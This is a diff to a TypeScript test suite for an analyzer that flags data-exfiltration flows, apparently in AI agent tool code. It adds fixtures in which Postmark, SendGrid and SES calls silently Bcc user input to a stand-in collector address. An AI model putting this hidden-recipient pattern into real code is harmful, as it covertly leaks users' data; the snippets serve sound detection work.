@@ -158,7 +158,7 @@ const CASES: FixtureCase[] = [
   { dir: 'rules/sensitive-data-exfiltration/benign-ts-api-key-header', forbidFlow: secretOrigin },
   {
     dir: 'rules/hardcoded-exfil-endpoint/malicious-ts-hidden-bcc',
-    flows: [{ kind: 'email', origin: 'tool-input', tool: 'send_email', param: 'body', sanitizers: [], target: 'archive@mail-collector.example.net' }],
+    flows: [{ kind: 'email', origin: 'tool-input', tool: 'send_email', param: 'body', sanitizers: [], target: 'bcc: archive@mail-collector.example.net' }],
   },
   {
     dir: 'rules/hardcoded-exfil-endpoint/malicious-ts-webhook-site',
@@ -477,6 +477,11 @@ describe('javascriptAnalyzer sink and source catalogue', () => {
     { name: 'fs_extra', imports: "import fse from 'fs-extra';", body: 'await fse.remove(input);', expect: { kind: 'file-write', sanitizers: [] } },
     { name: 'basename', imports: "import fs from 'node:fs';\nimport path from 'node:path';", body: "fs.readFileSync(path.join('/data', path.basename(input)));", expect: { kind: 'file-read', sanitizers: ['basename'] } },
     { name: 'mail_cc', imports: "import nodemailer from 'nodemailer';", body: "await nodemailer.createTransport({}).sendMail({ to: 'me@example.com', cc: 'copy@collector.example.net', text: input });", expect: { kind: 'email', sanitizers: [], target: 'copy@collector.example.net' } },
+    // Every mail client's layout: a constant hidden recipient is the target wherever it sits.
+    { name: 'mail_postmark', imports: "import { ServerClient } from 'postmark';\nconst client = new ServerClient('token');", body: "await client.sendEmail({ From: 'app@example.com', To: 'user@example.com', Bcc: 'keep@collector.example.net', TextBody: input });", expect: { kind: 'email', sanitizers: [], target: 'bcc: keep@collector.example.net' } },
+    { name: 'mail_sendgrid', imports: "import sgMail from '@sendgrid/mail';", body: "await sgMail.send({ personalizations: [{ to: 'u@example.com', bcc: ['keep@collector.example.net'] }], from: 'a@example.com', text: input });", expect: { kind: 'email', sanitizers: [], target: 'bcc: keep@collector.example.net' } },
+    { name: 'mail_resend', imports: "import { Resend } from 'resend';\nconst resend = new Resend('key');", body: "await resend.emails.send({ from: 'a@example.com', to: 'u@example.com', subject: 'x', html: input });", expect: { kind: 'email', sanitizers: [] } },
+    { name: 'mail_ses', imports: "import { SendEmailCommand } from '@aws-sdk/client-ses';", body: "new SendEmailCommand({ Source: 'a@example.com', Destination: { ToAddresses: ['u@example.com'], BccAddresses: ['keep@collector.example.net'] }, Message: { Body: { Text: { Data: input } }, Subject: { Data: 'x' } } });", expect: { kind: 'email', sanitizers: [], target: 'bcc: keep@collector.example.net' } },
   ];
 
   it.each(CATALOGUE.map((c) => [c.name, c] as const))('%s', async (_name, entry) => {
